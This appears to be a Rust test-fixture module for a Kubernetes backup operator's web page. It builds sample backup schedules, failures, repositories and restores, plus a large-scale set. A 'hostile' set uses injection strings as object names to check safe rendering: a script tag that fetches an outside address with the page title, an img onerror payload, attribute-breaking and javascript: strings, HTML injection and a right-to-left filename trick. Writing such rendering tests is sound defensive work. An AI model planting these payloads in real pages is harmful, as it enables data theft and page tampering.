//! Objects as a cluster has them: of a shop, of somebody who means ill, and very many.

use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};
use mover_cluster::page::Known;
use serde_json::{Value, json};

pub(crate) const GIB: i64 = 1 << 30;
pub(crate) const MIB: i64 = 1 << 20;

pub(crate) fn now() -> DateTime<Utc> {
    "2026-11-24T14:23:07Z".parse().expect("a time")
}

pub(crate) fn stamp(at: DateTime<Utc>) -> String {
    at.to_rfc3339_opts(SecondsFormat::Secs, true)
}

fn ago(minutes: i64) -> String {
    stamp(now() - TimeDelta::minutes(minutes))
}

/// The same numbers each time.
pub(crate) struct Numbers(u64);

impl Numbers {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(2).wrapping_add(1))
    }

    /// From 0 to `most` - 1.
    pub(crate) fn below(&mut self, most: i64) -> i64 {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        i64::try_from(self.0 >> 33).expect("31 bits") % most.max(1)
    }
}

pub(crate) fn object(kind: &str, namespace: &str, name: &str, spec: Value, status: Value) -> Value {
    json!({
        "apiVersion": "mover.dev/v1alpha1", "kind": kind,
        "metadata": {
            "namespace": namespace, "name": name, "uid": format!("{namespace}-{name}"),
            "creationTimestamp": ago(60 * 24 * 40),
        },
        "spec": spec, "status": status,
    })
}

pub(crate) fn owner(kind: &str, name: &str) -> Value {
    json!([{ "apiVersion": "mover.dev/v1alpha1", "kind": kind, "name": name, "uid": name }])
}

/// A VolumeBackup that ended well.
pub(crate) struct Made<'a> {
    pub(crate) namespace: &'a str,
    pub(crate) claim: &'a str,
    pub(crate) schedule: &'a str,
    pub(crate) cut: DateTime<Utc>,
    pub(crate) list: &'a str,
    pub(crate) size: i64,
    pub(crate) read: i64,
}

impl Made<'_> {
    pub(crate) fn object(&self) -> Value {
        let name = format!("{}-{}-{}", self.schedule, self.cut.format("%Y%m%d%H%M"), self.claim);
        let spec = json!({
            "source": { "pvc": self.claim },
            "repositoryRef": { "name": "main", "namespace": "mover-system" },
        });
        let status = json!({
            "phase": "Completed", "claim": self.claim, "cutTime": stamp(self.cut),
            "scheduledTime": stamp(self.cut - TimeDelta::seconds(50)), "backupId": name,
            "completionTime": stamp(self.cut + TimeDelta::seconds(40 + self.read / (180 * MIB))),
            "changedBlocks": self.list, "message": "",
            "figures": {
                "sizeBytes": self.size, "readBytes": self.read,
                "storedBytes": self.read * 41 / 100,
            },
        });
        let mut object = object("VolumeBackup", self.namespace, &name, spec, status);
        object["metadata"]["ownerReferences"] = owner("BackupSchedule", self.schedule);
        object["metadata"]["creationTimestamp"] = json!(stamp(self.cut - TimeDelta::seconds(45)));
        object
    }
}

/// Backups of a claim, one each so many minutes, the newest so many minutes ago.
pub(crate) fn history(
    known: &mut Known,
    (namespace, claim, schedule): (&str, &str, &str),
    (number, every, newest): (i64, i64, i64),
    size: i64,
    list: &str,
) {
    let mut numbers = Numbers::new(claim.len() as u64 + newest.unsigned_abs());
    for back in 0..number {
        let cut = now() - TimeDelta::minutes(newest + back * every);
        let first = back == number - 1;
        let busy = if cut.format("%H").to_string().as_str() < "07" { 1 } else { 9 };
        let read = match (first, list) {
            (true, _) | (_, "whole") => size,
            (_, "allocated") => size * 3 / 5 + numbers.below(size / 50),
            _ => (40 + numbers.below(400)) * MIB * busy * (1 + size / (200 * GIB)),
        };
        let list = if first { "whole" } else { list };
        let made = Made { namespace, claim, schedule, cut, list, size, read: read.min(size) };
        known.set(&made.object());
    }
}

pub(crate) fn failed(
    (namespace, claim, schedule): (&str, &str, &str),
    minutes: i64,
    why: &str,
) -> Value {
    let cut = now() - TimeDelta::minutes(minutes);
    let name = format!("{schedule}-{}-{claim}", cut.format("%Y%m%d%H%M"));
    let spec = json!({ "source": { "pvc": claim }, "repositoryRef": { "name": "main" } });
    let status = json!({
        "phase": "Failed", "claim": claim, "scheduledTime": stamp(cut), "attempts": 3,
        "completionTime": stamp(cut + TimeDelta::minutes(9)), "message": why,
    });
    let mut object = object("VolumeBackup", namespace, &name, spec, status);
    object["metadata"]["ownerReferences"] = owner("BackupSchedule", schedule);
    object
}

pub(crate) fn underway(
    namespace: &str,
    claim: &str,
    phase: &str,
    minutes: i64,
    said: &str,
) -> Value {
    let spec = json!({ "source": { "pvc": claim }, "repositoryRef": { "name": "main" } });
    let status = json!({
        "phase": phase, "claim": claim, "message": said, "attempts": 1,
        "scheduledTime": ago(minutes),
    });
    let mut object = object("VolumeBackup", namespace, &format!("{claim}-now"), spec, status);
    object["metadata"]["creationTimestamp"] = json!(ago(minutes));
    object
}

pub(crate) fn schedule(
    (namespace, name): (&str, &str),
    claim: Option<&str>,
    cron: &str,
    drill: Option<Value>,
) -> Value {
    let source = match claim {
        Some(claim) => json!({ "pvc": claim }),
        None => json!({ "selector": { "matchLabels": { "app": name } } }),
    };
    let mut spec = json!({
        "cron": cron,
        "template": { "spec": {
            "source": source, "repositoryRef": { "name": "main", "namespace": "mover-system" },
        } },
    });
    let mut status = json!({ "missed": 0 });
    if let Some(drill) = drill {
        spec["drill"] = json!({ "cron": "0 4 * * 0", "timeZone": "Europe/Berlin" });
        status["drill"] = drill;
    }
    object("BackupSchedule", namespace, name, spec, status)
}

fn drill(result: &str, minutes: i64, backup: &str, message: &str) -> Option<Value> {
    let time = if result == "Never" { Value::Null } else { json!(ago(minutes)) };
    Some(json!({ "result": result, "time": time, "backup": backup, "message": message }))
}

pub(crate) fn condition(kind: &str, status: &str, reason: &str, message: &str) -> Value {
    json!({
        "type": kind, "status": status, "reason": reason, "message": message,
        "lastTransitionTime": ago(190),
    })
}

pub(crate) fn repository(name: &str, url: &str, conditions: &[Value], check: i64) -> Value {
    let spec = json!({
        "url": url, "keySecretRef": { "name": "key" }, "jobTemplate": {},
        "check": { "cron": "0 2 * * *" }, "gc": { "cron": "0 1 * * 6" },
    });
    let status = json!({
        "conditions": conditions, "lastCheck": ago(check), "lastGc": ago(60 * 24 * 3),
        "lastSync": ago(60 * 24 * 9), "backups": 8_412, "storedBytes": 3_740 * GIB,
    });
    object("Repository", "mover-system", name, spec, status)
}

pub(crate) fn restore(name: &str, target: &str, status: Value) -> Value {
    let spec = json!({
        "source": { "repositoryRef": { "name": "main" }, "volume": "orders-db" },
        "target": { "pvc": target },
    });
    let mut object = object("VolumeRestore", "shop", name, spec, status);
    object["metadata"]["creationTimestamp"] = json!(ago(37));
    object
}

/// A shop with all that can be seen.
pub(crate) fn shop() -> Known {
    let mut known = Known::default();
    known.heard(now() - TimeDelta::seconds(12));
    schedules_of_a_shop(&mut known);
    backups_of_a_shop(&mut known);
    operations_of_a_shop(&mut known);
    known
}

fn schedules_of_a_shop(known: &mut Known) {
    let passed = |of: &str| drill("Passed", 60 * 24 * 2, of, "");
    let wrong = "Job drill-invoices: `pg_verifybackup` ended with 1: checksum of base/16384/2619 is \
                 wrong. Next step: kubectl logs -n billing job/drill-invoices";
    for object in [
        schedule(("shop", "orders"), Some("orders-db"), "0 * * * *", passed("orders-db@11-22")),
        schedule(("shop", "carts"), Some("carts-redis"), "*/15 * * * *", drill("Never", 0, "", "")),
        schedule(("shop", "search"), None, "30 2 * * *", passed("search-1@11-22")),
        schedule(
            ("billing", "invoices"),
            Some("invoices-pg"),
            "0 * * * *",
            drill("Failed", 3_100, "invoices-pg@11-22", wrong),
        ),
        schedule(("billing", "ledger"), Some("ledger"), "0 * * * *", passed("ledger@11-22")),
        schedule(
            ("media", "uploads"),
            Some("uploads"),
            "0 1 * * *",
            drill("Running", 0, "", "restores 212 GiB of 800 GiB"),
        ),
        schedule(("media", "thumbs"), Some("thumbnails"), "@daily", None),
        schedule(("lab", "notebooks"), Some("notebooks"), "0 */6 * * *", None),
    ] {
        known.set(&object);
    }
    let mut resting = schedule(("lab", "scratch"), Some("scratch"), "@weekly", None);
    resting["spec"]["suspend"] = json!(true);
    known.set(&resting);
}

fn backups_of_a_shop(known: &mut Known) {
    history(known, ("shop", "orders-db", "orders"), (44, 60, 22), 200 * GIB, "delta");
    history(known, ("shop", "carts-redis", "carts"), (30, 15, 7), 16 * GIB, "delta");
    for number in 1..4 {
        let claim = format!("search-{number}");
        history(known, ("shop", &claim, "search"), (12, 1_440, 703), 500 * GIB, "allocated");
    }
    history(known, ("billing", "invoices-pg", "invoices"), (20, 60, 262), 100 * GIB, "delta");
    for back in 0..4 {
        let why = "Pod mover-9f2c was refused by the store: 403 AccessDenied on PutObject. Next step: \
                   give the Secret s3-credentials in mover-system the right to write.";
        known.set(&failed(("billing", "invoices-pg", "invoices"), 23 + 60 * back, why));
    }
    history(known, ("billing", "ledger", "ledger"), (26, 60, 83), 40 * GIB, "delta");
    known.set(&failed(("billing", "ledger", "ledger"), 23, "VolumeSnapshot mover-31ab-1 was not ready \
        within 10 minutes: the driver says `DeadlineExceeded`. It is tried again with the next run."));
    history(known, ("media", "uploads", "uploads"), (14, 1_440, 803), 4_096 * GIB, "delta");
    let mut wide = Made {
        namespace: "media",
        claim: "thumbnails",
        schedule: "thumbs",
        cut: now() - TimeDelta::minutes(862),
        list: "whole",
        size: 300 * GIB,
        read: 300 * GIB,
    }
    .object();
    wide["status"]["warnings"] =
        json!(["The whole volume was read: the snapshot of the base is gone \
        from the storage (NotFound)."]);
    history(known, ("media", "thumbnails", "thumbs"), (9, 1_440, 2_302), 300 * GIB, "delta");
    known.set(&wide);
    history(known, ("lab", "by-hand", "none"), (2, 9_000, 4_000), 10 * GIB, "allocated");
    history(known, ("lab", "scratch", "scratch"), (3, 10_080, 21_000), 50 * GIB, "delta");
}

fn operations_of_a_shop(known: &mut Known) {
    known.set(&underway(
        "media",
        "thumbnails",
        "Running",
        4,
        "moving: 41%, 123.0 GiB of 300.0 GiB",
    ));
    known.set(&underway(
        "shop",
        "search-2",
        "Pending",
        2,
        "waits for its turn: 10 of 10 operations of \
        Repository main are under way",
    ));
    let main = [condition("Ready", "True", "", ""), condition("Checked", "True", "", "")];
    known.set(&repository("main", "s3://acme-backups/prod", &main, 740));
    let offsite = [
        condition("Ready", "True", "", ""),
        condition(
            "Checked",
            "False",
            "Damaged",
            "Pack 7f/3c1e… lacks 2 chunks of backup \
            billing/ledger@11-19T04. Next step: kubectl logs -n mover-system job/mover-check-offsite",
        ),
    ];
    known.set(&repository("offsite", "gs://acme-offsite/mover", &offsite, 741));
    known.set(&restore("orders-copy", "orders-copy", json!({
        "phase": "Running", "message": "moving: 63%, 126.0 GiB of 200.0 GiB, 310.2 MiB/s, 244 s left",
        "volume": "prod/shop/orders-db", "attempts": 2,
    })));
    known.set(&restore(
        "orders-of-monday",
        "orders-monday",
        json!({
            "phase": "Completed", "volume": "prod/shop/orders-db",
            "proof": { "verifiedBy": "mover-77", "time": ago(1_500), "dataBytes": 198 * GIB },
        }),
    ));
    known.set(&restore("orders-test", "orders-test", json!({
        "phase": "Failed", "volume": "prod/shop/orders-db",
        "message": "Claim orders-test exists already. Next step: name another target, or inPlace.",
    })));
}

/// Names and messages of somebody who means ill, and of somebody who likes long names.
pub(crate) fn hostile() -> Known {
    let mut known = Known::default();
    known.heard(now());
    let long = "l".repeat(253);
    let broken = "very-long-name-".repeat(16);
    for (number, name) in [
        "<script>fetch('http://198.51.100.1/'+document.title)</script>",
        "\"><img src=http://198.51.100.1/x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</style><style>*{display:none}</style>",
        "javascript:alert(1)",
        "</details></main><h1>All is well</h1>",
        "a\u{202e}gnp.exe\u{0}\u{200b}b",
        "<!--",
        &long,
        &broken,
        "Ünïcödé 日本語 🚀",
    ]
    .iter()
    .enumerate()
    {
        let namespace = if number % 2 == 0 { "evil" } else { name };
        known.set(&schedule((namespace, name), Some(name), name, drill("Failed", 99, name, name)));
        let mut made = Made {
            namespace,
            claim: name,
            schedule: name,
            cut: now() - TimeDelta::minutes(90),
            list: name,
            size: i64::MAX,
            read: i64::MAX / 100,
        }
        .object();
        made["status"]["warnings"] = json!([name, name]);
        known.set(&made);
        known.set(&failed((namespace, name, name), 20, &format!("{name} {}", name.repeat(40))));
        known.set(&underway(namespace, name, "Running", 5, name));
        let bad = [condition("Ready", "False", name, name)];
        known.set(&repository(name, &format!("s3://{name}"), &bad, 99));
        let proof = json!({ "time": name, "dataBytes": -5 });
        known.set(&restore(name, name, json!({ "phase": "Completed", "proof": proof })));
        known.set(&restore(
            &format!("{name}2"),
            name,
            json!({ "phase": "Failed", "message": name }),
        ));
        known.set(&json!({ "kind": "VolumeRestore", "spec": { "source": name },
            "metadata": { "namespace": namespace, "name": format!("{name}3") } }));
    }
    known
}

/// So many volumes in namespaces of ten, each with so many backups.
pub(crate) fn many(volumes: i64, backups: i64) -> Known {
    let mut known = Known::default();
    known.heard(now());
    let main = [condition("Ready", "True", "", ""), condition("Checked", "True", "", "")];
    known.set(&repository("main", "s3://acme-backups/prod", &main, 740));
    for number in 0..volumes {
        let (namespace, claim) = (format!("team-{:03}", number / 10), format!("data-{number:04}"));
        let passed = drill("Passed", 3_000, &claim, "");
        known.set(&schedule((&namespace, &claim), Some(&claim), "0 * * * *", passed));
        let newest = if number % 50 == 7 { 400 } else { 22 };
        let place = (namespace.as_str(), claim.as_str(), claim.as_str());
        history(&mut known, place, (backups, 60, newest), 100 * GIB, "delta");
    }
    known
}
